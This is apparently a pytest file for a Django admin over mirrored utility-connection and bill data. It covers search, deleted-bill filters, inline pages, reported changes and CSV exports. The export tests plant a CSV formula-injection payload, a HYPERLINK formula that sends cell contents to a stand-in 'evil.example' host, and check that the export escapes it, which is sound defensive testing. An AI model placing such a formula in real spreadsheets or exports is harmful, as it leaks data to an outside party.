"""The admin over the Nectar mirror: changelists, search, the bill page, CSV exports, and what
Nectar reported as changed on a delivery's page."""

import csv
import html
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse

from consents.models import UtilityConnection
from meters.models import UtilityBill
from tests.support.nectar import event_like, load

pytestmark = pytest.mark.django_db

CONNECTIONS = reverse("admin:consents_utilityconnection_changelist")
BILLS = reverse("admin:meters_utilitybill_changelist")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'

HARBOR_CONNECTION = load("connection.updated")["id"]
NORTHWIND_CONNECTION = load("connection.updated.v2")["id"]
HARBOR_BILL = load("document.created")["id"]
NORTHWIND_BILL = load("document.updated.v2")["id"]


def found(admin_client, changelist, query):
    response = admin_client.get(changelist, {"q": query})
    assert response.status_code == 200
    ids = [obj.external_id for obj in response.context["cl"].result_list]
    assert len(ids) == len(set(ids)), "a row is listed twice"
    return set(ids)


def exported_rows(admin_client, changelist, model):
    response = admin_client.post(
        changelist,
        {
            "action": "export_csv",
            "_selected_action": list(model.objects.values_list("pk", flat=True)),
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


# --- Connections --------------------------------------------------------------------------


@pytest.fixture
def connections(deliver):
    deliver("connection.updated")
    deliver("connection.updated.v2")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("Harbor Foods", {HARBOR_CONNECTION}),
        ("northwind cold", {NORTHWIND_CONNECTION}),
        ("1029384756-1", {HARBOR_CONNECTION}),  # an account number: the exact one
        ("A-90B4E6F1", {NORTHWIND_CONNECTION}),
        ("1029384756", set()),  # part of an account number finds nothing
        ("Leeds Depot", {NORTHWIND_CONNECTION}),  # a site name
        ("HF-0042", {HARBOR_CONNECTION}),  # the company's external id
        ("Acme", set()),
    ],
)
def test_connection_changelist_search(admin_client, connections, query, expected):
    assert found(admin_client, CONNECTIONS, query) == expected


def test_connection_changelist_lists_every_connection(admin_client, connections):
    response = admin_client.get(CONNECTIONS)

    page = response.content.decode()
    assert "Harbor Foods Inc." in page
    assert "Northwind Cold Storage Ltd" in page
    assert "Octopus Energy" in page


def test_connection_page_shows_its_accounts(admin_client, connections):
    connection = UtilityConnection.objects.get(external_id=HARBOR_CONNECTION)

    response = admin_client.get(
        reverse("admin:consents_utilityconnection_change", args=[connection.pk])
    )

    assert response.status_code == 200
    page = response.content.decode()
    for text in ["4839201756-3", "1029384756-1", "Harbor Foods - San Jose Store 12"]:
        assert text in page


def test_connection_export_csv(admin_client, deliver):
    deliver("connection.updated")
    evil = load("connection.updated.v2")
    evil["company"]["name"] = FORMULA
    deliver(evil)

    rows = exported_rows(admin_client, CONNECTIONS, UtilityConnection)

    assert rows[0] == [
        "nectar_id",
        "company",
        "company_external_id",
        "data_source",
        "status",
        "country",
        "account_numbers",
        "emails",
        "updated_on_platform",
    ]
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {HARBOR_CONNECTION, NORTHWIND_CONNECTION}
    harbor = by_id[HARBOR_CONNECTION]
    assert harbor["company"] == "Harbor Foods Inc."
    assert harbor["account_numbers"].split() == ["1029384756-1", "4839201756-3"]
    assert harbor["emails"] == "energy@harborfoods.com ap@harborfoods.com"
    assert harbor["updated_on_platform"] == "2024-11-06T09:47:53.118204+00:00"
    assert by_id[NORTHWIND_CONNECTION]["company"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- Bills --------------------------------------------------------------------------------


@pytest.fixture
def bills(deliver):
    deliver("document.created")
    deliver("document.updated.v2")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("Harbor", {HARBOR_BILL}),
        ("Northwind Cold Storage", {NORTHWIND_BILL}),
        ("OCT-INV-77120934", {NORTHWIND_BILL}),  # an invoice id: the exact one
        ("PGE-4839201756-241129", {HARBOR_BILL}),
        ("OCT-INV", set()),  # part of an invoice id finds nothing
        ("Hull Cold Store", {NORTHWIND_BILL}),  # a site name, on the second usage record
        ("oakland dc", {HARBOR_BILL}),
        ("G-55102873", {HARBOR_BILL}),  # a meter id
        ("Acme", set()),
    ],
)
def test_bill_changelist_search(admin_client, bills, query, expected):
    assert found(admin_client, BILLS, query) == expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [({"deleted": "yes"}, {NORTHWIND_BILL}), ({"deleted": "no"}, {HARBOR_BILL})],
)
def test_bill_changelist_filters_deleted_bills(admin_client, bills, deliver, query, expected):
    deliver("document.deleted.v2")

    response = admin_client.get(BILLS, query)

    assert {bill.external_id for bill in response.context["cl"].result_list} == expected


def test_bill_page_shows_its_line_items_and_usage_inline(admin_client, bills):
    bill = UtilityBill.objects.get(external_id=NORTHWIND_BILL)

    response = admin_client.get(reverse("admin:meters_utilitybill_change", args=[bill.pk]))

    assert response.status_code == 200
    inlines = {
        inline.opts.__class__.__name__: [form.instance for form in inline.formset.forms]
        for inline in response.context["inline_admin_formsets"]
    }
    event = load("document.updated.v2")
    assert [item.description for item in inlines["LineItemInline"]] == [
        item["description"] for item in event["lineItems"]
    ]
    assert {usage.meter_id for usage in inlines["MeterUsageInline"]} == {
        usage["meterId"] for usage in event["meterSiteUsageData"]
    }
    page = html.unescape(response.content.decode())
    for item in event["lineItems"]:
        assert item["description"] in page
    assert "Northwind - Hull Cold Store" in page
    assert "0.214305" in page  # the Hull line's rate


def test_bill_export_csv(admin_client, deliver):
    deliver("document.created")
    evil = load("document.updated.v2")
    evil["company"]["name"] = FORMULA
    deliver(evil)

    rows = exported_rows(admin_client, BILLS, UtilityBill)

    assert rows[0] == [
        "nectar_id",
        "invoice_id",
        "company",
        "company_external_id",
        "utility_company",
        "document_date",
        "due_date",
        "period_start",
        "period_end",
        "total_charges",
        "total_charges_units",
        "is_flagged",
        "deleted_at",
    ]
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {HARBOR_BILL, NORTHWIND_BILL}
    harbor = by_id[HARBOR_BILL]
    assert harbor["invoice_id"] == "PGE-4839201756-241129"
    assert (harbor["document_date"], harbor["period_start"], harbor["period_end"]) == (
        "2024-11-29",
        "2024-10-29",
        "2024-11-29",
    )
    assert Decimal(harbor["total_charges"]) == Decimal("1234.56")
    assert harbor["total_charges_units"] == "USD"
    assert by_id[NORTHWIND_BILL]["company"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- What Nectar reported as changed, on the delivery's page ------------------------------


def reported_changes(page):
    """The text of the delivery page's `reported_changes` field."""
    field = r'class="form-row[^"]*\bfield-reported_changes\b[^"]*">'
    match = re.search(field + r'(.*?)(?=<div class="form-row|</fieldset>)', page, re.S)
    assert match, "the delivery page has no reported_changes field"
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", match.group(1))).split())


@pytest.mark.parametrize(
    ("event", "shown", "not_shown"),
    [
        (
            load("connection.updated"),
            ['"protectedChanges"', '"status"', '"accounts"', '"old"', '"PENDING"'],
            ["ACTIVE"],
        ),
        (
            load("connection.updated.v2"),
            ['"protectedChanges"', '"emails"', '"old"', '"facilities@northwindcold.co.uk"'],
            ["finance@northwindcold.co.uk"],
        ),
        (
            event_like("connection.updated.v2", protectedChanges=[], old=None),
            ['"protectedChanges": []', '"old": null'],
            ["facilities@"],
        ),
    ],
    ids=["v1", "v2", "empty"],
)
def test_delivery_page_shows_protected_changes_and_old_values(
    admin_client, deliver, event, shown, not_shown
):
    delivery = deliver(event)

    response = admin_client.get(reverse("admin:events_delivery_change", args=[delivery.pk]))

    assert response.status_code == 200
    assert "Changes reported by Nectar" in response.content.decode()
    reported = reported_changes(response.content.decode())
    for text in shown:
        assert text in reported
    for text in not_shown:
        assert text not in reported


@pytest.mark.parametrize("event_type", ["connection.created", "document.created.v2"])
def test_delivery_page_without_reported_changes_shows_a_dash(admin_client, deliver, event_type):
    delivery = deliver(event_type)

    response = admin_client.get(reverse("admin:events_delivery_change", args=[delivery.pk]))

    assert reported_changes(response.content.decode()) == "Changes reported by Nectar: —"
